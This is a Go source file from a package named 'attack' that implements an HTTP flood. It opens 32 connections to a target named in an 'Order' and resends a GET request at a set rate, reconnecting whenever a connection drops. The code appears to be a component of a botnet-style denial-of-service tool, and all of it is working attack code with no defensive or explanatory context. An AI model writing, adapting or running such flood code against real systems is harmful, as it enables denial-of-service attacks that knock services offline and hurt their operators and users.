package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// httpConns is how many connections an HTTP flood keeps open.
const httpConns = 32

// floodHTTP sends requests over real connections, one segment each, and opens
// new connections as long as it can. Its log counts requests it tried to send,
// also while no connection could be had.
func floodHTTP(ctx context.Context, o Order, log *logFile) error {
	request := fmt.Appendf(nil, "GET /?%s%x HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n", DNSPrefix, o.Device)
	var wg sync.WaitGroup
	log.begin()
	for i := range httpConns {
		wg.Go(func() {
			h := &httpFlood{order: o, request: request, log: log, share: (o.PPS + i) / httpConns}
			h.run(ctx)
		})
	}
	wg.Wait()
	return nil
}

// httpFlood is one connection's share.
type httpFlood struct {
	order   Order
	request []byte
	log     *logFile
	share   int // requests per second
	conn    net.Conn
	broken  chan struct{}
}

func (h *httpFlood) run(ctx context.Context) {
	if h.share == 0 {
		return
	}
	const step = 10 * time.Millisecond
	t := time.NewTicker(step)
	defer t.Stop()
	defer h.hangUp()
	var owed float64
	last := time.Now()
	for ctx.Err() == nil {
		now := time.Now()
		owed += now.Sub(last).Seconds() * float64(h.share)
		last = now
		n := int(owed)
		owed -= float64(n)
		if n > 0 && h.log.sent(n) >= MaxPackets {
			return
		}
		h.burst(ctx, n)
		select {
		case <-ctx.Done():
		case <-t.C:
		}
	}
}

func (h *httpFlood) burst(ctx context.Context, n int) {
	if n == 0 || !h.connected(ctx) {
		return
	}
	for range min(n, 64) {
		if err := h.conn.SetWriteDeadline(time.Now().Add(50 * time.Millisecond)); err != nil {
			h.hangUp()
			return
		}
		if _, err := h.conn.Write(h.request); err != nil {
			h.hangUp()
			return
		}
	}
}

func (h *httpFlood) connected(ctx context.Context) bool {
	if h.conn != nil {
		select {
		case <-h.broken:
			h.hangUp()
		default:
			return true
		}
	}
	d := net.Dialer{Timeout: 300 * time.Millisecond}
	c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(h.order.Target.String(), fmt.Sprint(HTTPPort)))
	if err != nil {
		return false
	}
	broken := make(chan struct{})
	h.conn, h.broken = c, broken
	go func() {
		_, _ = io.Copy(io.Discard, c)
		close(broken)
	}()
	return true
}

func (h *httpFlood) hangUp() {
	if h.conn == nil {
		return
	}
	if tcp, ok := h.conn.(*net.TCPConn); ok {
		_ = tcp.SetLinger(0)
	}
	h.conn.Close()
	h.conn = nil
}
